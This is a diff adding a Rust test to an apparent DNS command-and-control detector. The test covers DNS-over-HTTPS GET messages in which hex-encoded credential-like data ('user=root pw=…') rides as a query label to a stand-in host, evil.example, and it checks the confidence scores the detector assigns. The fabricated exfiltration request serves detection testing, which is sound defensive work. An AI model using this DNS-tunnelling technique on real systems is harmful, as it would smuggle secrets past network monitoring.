@@ -541,3 +541,23 @@ fn a_cloud_s_name_is_hardly_data_however_it_is_asked_for() {
     assert_low("c2_dns_query", &[&query("us-east-1.eks.amazonaws.com")]);
     assert_likely("c2_dns_query", &[&query("amazonaws.com.evil.example")]);
 }
+
+/// The other form of RFC 8484: nobody looked into the message in an address.
+#[test]
+fn a_name_that_is_asked_for_in_an_address_is_read() {
+    let asked = |id: [u8; 2], label: &str, behind: &[u8]| {
+        let head = [&id[..], b"\x01\0\0\x01\0\0\0\0\0\0"].concat();
+        let len = u8::try_from(label.len()).unwrap();
+        let message = [&head[..], &[len], label.as_bytes(), behind, b"\0\0\x10\0\x01"].concat();
+        let value = data_encoding::BASE64URL_NOPAD.encode(&message);
+        let text = format!("GET /dns-query?dns={value} HTTP/1.1\r\nHost: dns.example\r\n\r\n");
+        in_pieces("c2_dns_message", &[text.as_bytes()])
+    };
+    let data = "757365723d726f6f742070773d68";
+    let (evil, cloud) = (b"\x01t\x04evil\x07example", b"\x03gr7\x09amazonaws\x03com");
+    for id in [[0, 0], [0, 1], [0xAB, 0xCD]] {
+        assert_eq!(asked(id, data, evil), Some(Confidence::Medium), "{id:?}");
+        assert_eq!(asked(id, data, cloud), Some(Confidence::Low), "{id:?}");
+        assert_eq!(asked(id, "www", b"\x07example\x03com"), None, "{id:?}");
+    }
+}
